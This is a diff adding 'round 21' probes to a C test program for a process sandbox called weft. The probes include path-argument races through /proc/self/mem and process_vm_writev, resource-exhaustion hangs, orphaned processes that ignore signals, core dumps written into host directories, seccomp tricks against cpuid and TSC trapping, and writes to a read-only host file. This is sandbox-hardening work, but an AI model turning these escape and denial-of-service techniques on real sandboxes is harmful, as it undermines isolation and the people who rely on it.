@@ -17,6 +17,9 @@
 #include <linux/openat2.h>
 #include <linux/userfaultfd.h>
 #include <linux/bpf.h>
+#include <linux/filter.h>
+#include <linux/io_uring.h>
+#include <linux/seccomp.h>
 #include <linux/netlink.h>
 #include <linux/perf_event.h>
 #include <linux/rtnetlink.h>
@@ -43,7 +46,10 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/auxv.h>
+#include <sys/epoll.h>
+#include <sys/eventfd.h>
 #include <sys/file.h>
+#include <sys/sendfile.h>
 #include <sys/inotify.h>
 #include <sys/ipc.h>
 #include <sys/msg.h>
@@ -1996,6 +2002,516 @@ static int h_tz(char **a) {
 	return 0;
 }
 
+// --- round 21: races on judged arguments, hangs, cores, the node's own
+// ptrace, seccomp and namespaces -----------------------------------------
+
+// flipbuf is the page a racer rewrites while the probe's calls name it:
+// "mine" (a file in the run directory, which weft allows) and the host
+// path (which it refuses), in turn. flipstop ends the racer.
+static char *flipbuf;
+static const char *flipout;
+static volatile int *flipstop;
+
+// flipone writes one of the two paths into p (racer's turn i).
+static void flipone(char *p, long i) {
+	if (i & 1)
+		strcpy(p, flipout);
+	else
+		strcpy(p, "mine");
+}
+
+// flipper is the racing thread: HOW yield (sched_yield after each
+// flip), spin (no system call), vdso (a clock read after each), mem
+// (each flip a write through /proc/self/mem).
+static void *flipper(void *x) {
+	const char *how = x;
+	struct timespec ts;
+	int mem = -1;
+	if (!strcmp(how, "mem") && (mem = rc("open(/proc/self/mem)", open("/proc/self/mem", O_RDWR))) < 0)
+		return 0;
+	char src[4200];
+	for (long i = 0; !*flipstop; i++) {
+		if (mem >= 0) {
+			flipone(src, i);
+			if (pwrite(mem, src, strlen(src) + 1, (off_t)(uintptr_t)flipbuf) < 0 && i == 0)
+				rc("pwrite(/proc/self/mem)", -1);
+			continue;
+		}
+		flipone(flipbuf, i);
+		if (!strcmp(how, "yield"))
+			sched_yield();
+		else if (!strcmp(how, "vdso"))
+			clock_gettime(CLOCK_MONOTONIC, &ts);
+		else if (i % 200000 == 199999)
+			sched_yield(); // spin: a call now and then, or the other thread never runs
+	}
+	return 0;
+}
+
+// raceop is the judged call: setxattr (checked, then run by the kernel
+// from the node's memory), creat or rename (weft resolves the path).
+static long raceop(const char *op, const char *p) {
+	if (!strcmp(op, "setxattr"))
+		return setxattr(p, "user.pwned", "1", 1, 0);
+	if (!strcmp(op, "creat")) {
+		int fd = open(p, O_CREAT | O_WRONLY | O_APPEND, 0666);
+		if (fd >= 0) {
+			write(fd, PWN, strlen(PWN));
+			close(fd);
+		}
+		return fd;
+	}
+	return -1;
+}
+
+// race HOW OP OUTPATH: OP, a few thousand times, on a path a second task
+// rewrites between "mine" and OUTPATH: HOW thread-yield, thread-spin,
+// thread-vdso, thread-mem (a thread of the process; -mem writes through
+// /proc/self/mem), fork (a child sharing the page,
+// MAP_SHARED anonymous), memfd (a child mapping the same memfd), pvm (a
+// child writing it with process_vm_writev), procmem (a child writing it
+// through /proc/PID/mem). The host file changed means the kernel ran the
+// call on a path weft did not judge.
+static int p_race(char **a) {
+	const char *how = a[0], *op = a[1];
+	flipout = a[2];
+	close(open("mine", O_CREAT | O_WRONLY, 0644));
+	int shared = !strcmp(how, "fork") || !strcmp(how, "memfd");
+	int m = -1;
+	if (!strcmp(how, "memfd")) {
+		m = rc("memfd_create", memfd_create("race", 0));
+		rc("ftruncate", ftruncate(m, 8192));
+	}
+	char *pg = mmap(0, 8192, PROT_READ | PROT_WRITE, shared ? MAP_SHARED | (m < 0 ? MAP_ANONYMOUS : 0) : MAP_PRIVATE | MAP_ANONYMOUS, m, 0);
+	if (pg == MAP_FAILED)
+		return rc("mmap", -1);
+	flipbuf = pg;
+	flipstop = (volatile int *)(pg + 4096);
+	strcpy(flipbuf, "mine");
+	pthread_t t;
+	pid_t child = -1, parent = getpid();
+	if (!strncmp(how, "thread-", 7))
+		pthread_create(&t, NULL, flipper, (void *)(how + 7));
+	else {
+		child = fork();
+		if (child == 0) {
+			char path[64], src[4200];
+			snprintf(path, sizeof path, "/proc/%d/mem", (int)parent);
+			int mem = !strcmp(how, "procmem") ? open(path, O_RDWR) : -1;
+			if (!strcmp(how, "procmem"))
+				rc("open(/proc/parent/mem)", mem);
+			for (long i = 0; i < 2000000 && !*flipstop; i++) {
+				if (shared) {
+					flipone(flipbuf, i);
+				} else {
+					flipone(src, i);
+					size_t n = strlen(src) + 1;
+					if (!strcmp(how, "procmem")) {
+						if (mem >= 0 && pwrite(mem, src, n, (off_t)(uintptr_t)flipbuf) < 0 && i == 0)
+							rc("pwrite(/proc/parent/mem)", -1);
+					} else {
+						struct iovec l = {src, n}, r = {flipbuf, n};
+						long k = syscall(SYS_process_vm_writev, parent, &l, 1, &r, 1, 0);
+						if (k < 0 && i == 0)
+							rc("process_vm_writev(parent)", k);
+					}
+				}
+				sched_yield();
+			}
+			_exit(0);
+		}
+	}
+	long won = 0, tries = 0, most = !strcmp(how, "thread-spin") ? 500 : 3000;
+	for (; tries < most; tries++)
+		if (raceop(op, flipbuf) >= 0 && !strcmp(flipbuf, flipout))
+			won++;
+	*flipstop = 1;
+	if (child > 0) {
+		kill(child, SIGKILL);
+		waitpid(child, NULL, 0);
+	} else
+		pthread_join(t, NULL);
+	out("%ld tries, %ld succeeded with the host path in the buffer after\n", tries, won);
+	return 0;
+}
+
+// hang HOW: try to make weft hang, die or leave a process behind; weft
+// must end the run with a verdict and nothing left.
+static void ignoreall(void) {
+	sigset_t all;
+	sigfillset(&all);
+	sigprocmask(SIG_BLOCK, &all, NULL);
+	for (int s = 1; s < 65; s++)
+		signal(s, SIG_IGN);
+}
+static void onalarm(int s) { (void)s; }
+
+static int p_hang(char **a) {
+	const char *h = a[0];
+	if (!strcmp(h, "stdout")) {
+		// 1 GiB to stdout, 1 MiB a write, no newline.
+		static char mb[1 << 20];
+		memset(mb, 'x', sizeof mb);
+		for (int i = 0; i < 1024; i++)
+			if (write(1, mb, sizeof mb) < 0)
+				return rc("write(1, 1 MiB)", -1);
+		out("\nwrote 1 GiB\n");
+	} else if (!strcmp(h, "udpflood")) {
+		int r = socket(AF_INET, SOCK_DGRAM, 0), s = socket(AF_INET, SOCK_DGRAM, 0);
+		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(4321), .sin_addr.s_addr = htonl(0x7f000001)};
+		rc("bind", bind(r, (struct sockaddr *)&sa, sizeof sa));
+		static char dg[65000];
+		long sent = 0;
+		for (int i = 0; i < 10000; i++)
+			sent += sendto(s, dg, sizeof dg, MSG_DONTWAIT, (struct sockaddr *)&sa, sizeof sa) > 0;
+		out("sent %ld datagrams nobody reads\n", sent);
+	} else if (!strcmp(h, "timers")) {
+		long made = 0;
+		struct sigevent ev = {.sigev_notify = SIGEV_NONE};
+		for (int i = 0; i < 1000000; i++) {
+			timer_t t;
+			if (timer_create(CLOCK_MONOTONIC, &ev, &t) < 0)
+				break;
+			struct itimerspec its = {{0, 1000}, {0, 1000}};
+			timer_settime(t, 0, &its, NULL);
+			made++;
+		}
+		out("made %ld timers\n", made);
+		pause();
+	} else if (!strcmp(h, "epoll")) {
+		int ep = epoll_create1(0), made = 0;
+		int e = eventfd(0, 0);
+		for (int i = 0; i < 1000000; i++) {
+			int d = dup(e);
+			if (d < 0)
+				break;
+			struct epoll_event ev = {.events = EPOLLIN};
+			if (epoll_ctl(ep, EPOLL_CTL_ADD, d, &ev) < 0)
+				break;
+			made++;
+		}
+		out("registered %d\n", made);
+		struct epoll_event evs[16];
+		rc("epoll_wait(forever)", epoll_wait(ep, evs, 16, -1));
+	} else if (!strcmp(h, "timer1ns")) {
+		signal(SIGALRM, onalarm);
+		timer_t t;
+		struct sigevent ev = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGALRM};
+		rc("timer_create", timer_create(CLOCK_MONOTONIC, &ev, &t));
+		struct itimerspec its = {{0, 1}, {0, 1}};
+		rc("timer_settime(1 ns)", timer_settime(t, 0, &its, NULL));
+		struct itimerval iv = {{0, 1}, {0, 1}};
+		rc("setitimer(1 us)", setitimer(ITIMER_REAL, &iv, NULL));
+		for (;;)
+			pause();
+	} else if (!strcmp(h, "iovcount")) {
+		static struct iovec iov[1025];
+		static char b[16] = "iov\n";
+		for (int i = 0; i < 1024; i++)
+			iov[i] = (struct iovec){b, 4};
+		rc("writev(1, IOV_MAX+1)", writev(1, iov, 1025));
+		rc("writev(1, 2^31-1)", syscall(SYS_writev, 1, iov, 0x7fffffffL));
+		rc("writev(1, 2^63)", syscall(SYS_writev, 1, iov, 0x8000000000000000UL));
+		rc("readv(0, 2^31-1)", syscall(SYS_readv, 0, iov, 0x7fffffffL));
+		int fd = open("f", O_CREAT | O_RDWR, 0644);
+		rc("pwritev(f, 2^31-1)", syscall(SYS_pwritev, fd, iov, 0x7fffffffL, 0, 0));
+		struct msghdr mh = {.msg_iov = iov, .msg_iovlen = 0x7fffffffffffL};
+		int sv[2];
+		rc("socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sv));
+		rc("sendmsg(huge iovlen)", sendmsg(sv[0], &mh, MSG_DONTWAIT));
+		int s = socket(AF_INET, SOCK_DGRAM, 0);
+		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(4322), .sin_addr.s_addr = htonl(0x7f000001)};
+		mh.msg_name = &sa, mh.msg_namelen = sizeof sa;
+		rc("sendmsg(inet, huge iovlen)", sendmsg(s, &mh, MSG_DONTWAIT));
+		out("returned\n");
+	} else if (!strcmp(h, "gather") || !strcmp(h, "gatherpipe")) {
+		// 1024 iovecs of 64 MiB each, all the same untouched mapping: 64
+		// GiB named by 64 MiB of address space (a kernel stops at 2 GiB).
+		size_t len = 64 << 20;
+		char *m = mmap(0, len, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+		static struct iovec iov[1024];
+		for (int i = 0; i < 1024; i++)
+			iov[i] = (struct iovec){m, len};
+		int fd = 1, p[2];
+		if (!strcmp(h, "gatherpipe")) {
+			rc("pipe", pipe(p));
+			fcntl(p[1], F_SETFL, O_NONBLOCK);
+			fd = p[1];
+		}
+		rc("writev(64 GiB)", writev(fd, iov, 1024));
+		out("returned\n");
+	} else if (!strcmp(h, "argv") || !strcmp(h, "argv-big")) {
+		// ~1.9 MiB of arguments (E2BIG past a quarter of the stack limit:
+		// argv-big), then an exec of the probe's argv0 probe.
+		size_t want = !strcmp(h, "argv") ? 1900 * 1024 : 64 * 1024 * 1024;
+		size_t n = want / 128;
+		char **argv = calloc(n + 5, sizeof *argv);
+		char *arg = malloc(128);
+		memset(arg, 'a', 127);
+		arg[127] = 0;
+		argv[0] = "probe", argv[1] = ".", argv[2] = "0", argv[3] = "argv0";
+		for (size_t i = 0; i < n; i++)
+			argv[4 + i] = arg;
+		char *envp[] = {"A=1", NULL};
+		rc("execve(self, huge argv)", execve("/proc/self/exe", argv, envp));
+	} else if (!strcmp(h, "deeptree")) {
+		// 2000 nested directories, a symlink loop at every tenth, and
+		// two symlinks naming each other.
+		int made = 0;
+		for (; made < 2000; made++) {
+			if (mkdir("d", 0755) < 0 || chdir("d") < 0)
+				break;
+			if (made % 10 == 0)
+				symlink(".", "loop");
+		}
+		symlink("b", "a");
+		symlink("a", "b");
+		out("made %d levels\n", made);
+	} else if (!strcmp(h, "sigterm")) {
+		ignoreall();
+		if (fork() == 0) {
+			ignoreall();
+			for (;;)
+				pause();
+		}
+		out("holding\n");
+		for (;;)
+			;
+	} else if (!strcmp(h, "doublefork")) {
+		pid_t c = fork();
+		if (c == 0) {
+			if (fork() == 0) {
+				setsid();
+				ignoreall();
+				if (fork() == 0) {
+					for (;;)
+						pause();
+				}
+				for (;;)
+					sleep(1000);
+			}
+			_exit(0);
+		}
+		waitpid(c, NULL, 0);
+		out("main exits, grandchildren live on\n");
+		return 0;
+	} else if (!strcmp(h, "vfork")) {
+		pid_t c = vfork();
+		if (c == 0) {
+			for (;;)
+				;
+		}
+		out("vfork returned %d\n", (int)c);
+	} else if (!strcmp(h, "vforkpause")) {
+		pid_t c = vfork();
+		if (c == 0) {
+			for (;;)
+				pause();
+		}
+		out("vfork returned %d\n", (int)c);
+	} else
+		out("unknown hang %s\n", h);
+	return 0;
+}
+
+// core HOW OUTDIR: a child with no core size limit crashes (SIGSEGV)
+// with its working directory at HOW: outdir (a host directory, where a
+// core_pattern of "core" would have the kernel write it) or rundir.
+static int p_core(char **a) {
+	struct rlimit inf = {RLIM_INFINITY, RLIM_INFINITY};
+	rc("setrlimit(CORE, unlimited)", setrlimit(RLIMIT_CORE, &inf));
+	rc("prlimit(self, CORE, unlimited)", prlimit(0, RLIMIT_CORE, &inf, NULL));
+	rc("prctl(PR_SET_DUMPABLE, 1)", prctl(PR_SET_DUMPABLE, 1, 0, 0, 0));
+	if (!strcmp(a[0], "outdir"))
+		rc("chdir(outdir)", chdir(a[1]));
+	else if (!strcmp(a[0], "fchdir")) {
+		int d = rc("open(outdir)", open(a[1], O_RDONLY | O_DIRECTORY));
+		rc("fchdir(outdir)", fchdir(d));
+	}
+	pid_t c = fork();
+	if (c == 0) {
+		signal(SIGSEGV, SIG_DFL);
+		*(volatile int *)8 = 1;
+		_exit(0);
+	}
+	int st = 0;
+	waitpid(c, &st, 0);
+	out("child %s%s\n", WIFSIGNALED(st) ? strsignal(WTERMSIG(st)) : "exited", WIFSIGNALED(st) && WCOREDUMP(st) ? " (core dumped)" : "");
+	// and the probe itself
+	*(volatile int *)8 = 1;
+	return 0;
+}
+
+// seccomp filters of the node's own.
+static long ownfilter(int nr1, int nr2, uint32_t action, unsigned flags) {
+	struct sock_filter f[] = {
+	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr1, 1, 0),
+	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr2, 0, 1),
+	    BPF_STMT(BPF_RET | BPF_K, action),
+	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog prog = {sizeof f / sizeof f[0], f};
+	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
+	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
+}
+
+// own WHAT: the node's own ptrace, seccomp, io_uring, namespaces, LDT,
+// cpuid faulting (reached lines as reach's: the native run prints them).
+static int p_own(char **a) {
+	const char *h = a[0];
+	if (!strcmp(h, "traceme")) {
+		pid_t c = fork();
+		if (c == 0) {
+			long r = ptrace(PTRACE_TRACEME, 0, 0, 0);
+			reached("ptrace(TRACEME)", r, 0);
+			_exit(0);
+		}
+		waitpid(c, NULL, 0);
+	} else if (!strcmp(h, "seize")) {
+		pid_t c = fork();
+		if (c == 0) {
+			for (;;)
+				pause();
+		}
+		reached("ptrace(SEIZE, own child)", ptrace(PTRACE_SEIZE, c, 0, 0), 0);
+		kill(c, SIGKILL);
+		waitpid(c, NULL, 0);
+	} else if (!strcmp(h, "notif")) {
+		reached("seccomp(NEW_LISTENER, USER_NOTIF on getppid)", ownfilter(SYS_getppid, SYS_getppid, SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER), 0);
+	} else if (!strcmp(h, "trace")) {
+		// RET_TRACE on calls weft lets the kernel run (getppid is
+		// virtual; getuid, mmap): a tracer's stop weft did not ask for.
+		long r = ownfilter(SYS_getuid, SYS_mmap, SECCOMP_RET_TRACE | 7, 0);
+		rc("seccomp(RET_TRACE on getuid, mmap)", r);
+		rc("getuid", getuid());
+		void *p = mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		rc("mmap(PROT_EXEC)", p == MAP_FAILED ? -1 : 0);
+	} else if (!strcmp(h, "iouring")) {
+		struct io_uring_params p = {0};
+		reached("io_uring_setup", syscall(SYS_io_uring_setup, 4, &p), 0);
+	} else if (!strcmp(h, "userns")) {
+		long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
+		if (r == 0)
+			_exit(0);
+		if (r > 0)
+			waitpid(r, NULL, 0);
+		reached("clone(CLONE_NEWUSER)", r > 0 ? 0 : r, 0);
+		struct {
+			uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
+		} ca = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
+		r = syscall(SYS_clone3, &ca, sizeof ca);
+		if (r == 0)
+			_exit(0);
+		if (r > 0)
+			waitpid(r, NULL, 0);
+		reached("clone3(CLONE_NEWUSER|NEWNS)", r > 0 ? 0 : r, 0);
+	} else if (!strcmp(h, "modifyldt")) {
+		char ldt[64];
+		reached("modify_ldt(read)", syscall(SYS_modify_ldt, 0, ldt, sizeof ldt), 0);
+	} else if (!strcmp(h, "setcpuid")) {
+		reached("arch_prctl(ARCH_SET_CPUID, 0)", syscall(SYS_arch_prctl, 0x1012, 0), 0);
+		reached("arch_prctl(ARCH_SET_CPUID, 1)", syscall(SYS_arch_prctl, 0x1012, 1), 0);
+	} else if (!strcmp(h, "pmadvise")) {
+		int pf = syscall(SYS_pidfd_open, getpid(), 0);
+		char *pg = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		struct iovec v = {pg, 4096};
+		reached("process_madvise(self, COLD)", syscall(SYS_process_madvise, pf, &v, 1, MADV_COLD, 0), 0);
+	} else
+		out("unknown own %s\n", h);
+	return 0;
+}
+
+// jitfilter HOW WHAT: install a filter that makes prctl and arch_prctl
+// answer 0 without running (SECCOMP_RET_ERRNO with 0: a call weft
+// injects into the process to switch on TSC trapping or cpuid faulting
+// would then do nothing), then run rdtsc or cpuid from code made at run
+// time (as jit).
+static int p_jitfilter(char **a) {
+	rc("seccomp(ERRNO on prctl, arch_prctl)", ownfilter(SYS_prctl, SYS_arch_prctl, SECCOMP_RET_ERRNO | 0, 0));
+	return p_jit(a);
+}
+
+// mapfiles: the links of /proc/self/map_files name the files mapped.
+static int p_mapfiles(char **a) {
+	(void)a;
+	DIR *d = opendir("/proc/self/map_files");
+	if (!d)
+		return rc("opendir(/proc/self/map_files)", -1);
+	struct dirent *e;
+	char p[512], t[4096];
+	while ((e = readdir(d))) {
+		if (e->d_name[0] == '.')
+			continue;
+		snprintf(p, sizeof p, "/proc/self/map_files/%s", e->d_name);
+		ssize_t k = readlink(p, t, sizeof t - 1);
+		if (k > 0) {
+			t[k] = 0;
+			out("MAP %s\n", t);
+		}
+	}
+	closedir(d);
+	return 0;
+}
+
+// script HOW VICTIM: exec a #! script that appends to the host file:
+// memfd (execveat of a memfd holding it), args (a #! line with an
+// argument, from the run directory).
+static int p_script(char **a) {
+	char s[4200];
+	extern char **environ;
+	if (!strcmp(a[0], "memfd")) {
+		snprintf(s, sizeof s, "#!/bin/sh\necho PWNED >>'%s'\n", a[1]);
+		int m = rc("memfd_create", memfd_create("script", 0));
+		write(m, s, strlen(s));
+		char *argv[] = {"script", NULL};
+		rc("execveat(memfd script)", syscall(SYS_execveat, m, "", argv, environ, AT_EMPTY_PATH));
+	} else {
+		snprintf(s, sizeof s, "#!/bin/sh -e\necho PWNED >>'%s'\n", a[1]);
+		int fd = open("s.sh", O_CREAT | O_WRONLY | O_TRUNC, 0755);
+		write(fd, s, strlen(s));
+		close(fd);
+		char *argv[] = {"s.sh", NULL};
+		rc("execve(./s.sh)", execve("./s.sh", argv, environ));
+	}
+	return 0;
+}
+
+// copy HOW VICTIM: move bytes into the host file through the zero-copy
+// calls: copy_file_range and sendfile from a run-directory file into the
+// victim opened read-only, splice from a pipe into it.
+static int p_copy(char **a) {
+	int src = open("src", O_CREAT | O_RDWR | O_TRUNC, 0644);
+	write(src, PWN, strlen(PWN));
+	lseek(src, 0, SEEK_SET);
+	int v = rc("open(victim, O_RDONLY)", open(a[1], O_RDONLY));
+	int w = rc("open(victim, O_WRONLY)", open(a[1], O_WRONLY | O_APPEND));
+	int dst = w >= 0 ? w : v;
+	loff_t off = 0;
+	if (!strcmp(a[0], "cfr"))
+		rc("copy_file_range(src, victim)", copy_file_range(src, &off, dst, NULL, strlen(PWN), 0));
+	else if (!strcmp(a[0], "sendfile"))
+		rc("sendfile(victim, src)", sendfile(dst, src, &off, strlen(PWN)));
+	else if (!strcmp(a[0], "splice")) {
+		int p[2];
+		rc("pipe", pipe(p));
+		write(p[1], PWN, strlen(PWN));
+		rc("splice(pipe, victim)", splice(p[0], NULL, dst, NULL, strlen(PWN), 0));
+	} else if (!strcmp(a[0], "procfd")) {
+		// the read-only descriptor reopened for writing through /proc
+		char p[64];
+		snprintf(p, sizeof p, "/proc/self/fd/%d", v);
+		int x = rc("open(/proc/self/fd/N, O_WRONLY)", open(p, O_WRONLY | O_APPEND));
+		if (x >= 0)
+			rc("write", write(x, PWN, strlen(PWN)));
+		snprintf(p, sizeof p, "/dev/fd/%d", v);
+		x = rc("open(/dev/fd/N, O_RDWR)", open(p, O_RDWR | O_APPEND));
+		if (x >= 0)
+			rc("write", write(x, PWN, strlen(PWN)));
+	}
+	return 0;
+}
+
 static int helper(int argc, char **argv) {
 	const char *h = argv[2];
 	if (!strcmp(h, "snap"))
@@ -2045,6 +2561,9 @@ int main(int argc, char **argv) {
 	    {"jit", p_jit},         {"memexec", p_memexec},   {"aslr", p_aslr},     {"clocks", p_clocks},
 	    {"machine", p_machine}, {"setname", p_setname},   {"sock", p_sock},     {"family", p_family},
 	    {"oracle", p_oracle},   {"xstate", p_xstate},     {"hz", p_hz},
+	    {"oracle", p_oracle},   {"xstate", p_xstate},
+	    {"race", p_race},       {"hang", p_hang},         {"core", p_core},     {"own", p_own},
+	    {"jitfilter", p_jitfilter}, {"mapfiles", p_mapfiles}, {"script", p_script}, {"copy", p_copy},
 	};
 	if (!strcmp(name, "argv0")) {
 		out("ARGV0 %s\n", argv[0]);
